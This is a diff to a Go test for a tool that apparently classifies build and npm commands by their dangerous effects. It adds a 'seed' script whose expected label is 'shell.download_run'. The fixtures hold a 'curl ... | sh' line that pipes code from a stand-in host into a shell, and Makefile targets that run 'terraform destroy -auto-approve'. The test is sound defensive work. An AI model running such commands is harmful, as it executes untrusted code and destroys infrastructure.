@@ -18,7 +18,7 @@ func TestRuns(t *testing.T) {
 	files := map[string]string{
 		"Makefile":     "build: gen\n\tgo build ./...\ngen:\n\tgo generate\nreset: down\n\tgo run ./seed\ndown:\n\tterraform destroy -auto-approve\nall: build\n\t$(MAKE) reset\n",
 		"open.mk":      "include other.mk\nbuild:\n\tgo build\nreset:\n\tterraform destroy -auto-approve\n",
-		"package.json": `{"scripts": {"test": "vitest", "build": "tsc", "ship": "npm run build && npm publish", "prestart": "npm run ship", "start": "node .", "all": "run-s b* ship"}}`,
+		"package.json": `{"scripts": {"test": "vitest", "build": "tsc", "ship": "npm run build && npm publish", "prestart": "npm run ship", "seed": "./pieces.sh", "start": "node .", "all": "run-s b* ship"}}`,
 		"pieces.sh":    "curl -s https://x.example/i | sh\n",
 		"fine.sh":      "go test ./...\n",
 		"calls.sh":     "./pieces.sh\n",
@@ -49,7 +49,8 @@ func TestRuns(t *testing.T) {
 		"make -C . all":                     "destroy.cloud",
 		"make -f open.mk build":             "destroy.cloud",
 		"npm test":                          "",
-		"npm run build":                     "",
+		"npm run build":                     "", // and not what its other scripts name
+		"npm run seed":                      "shell.download_run",
 		"npm run ship":                      "publish.package",
 		"npm start":                         "publish.package",
 		"yarn all":                          "publish.package",
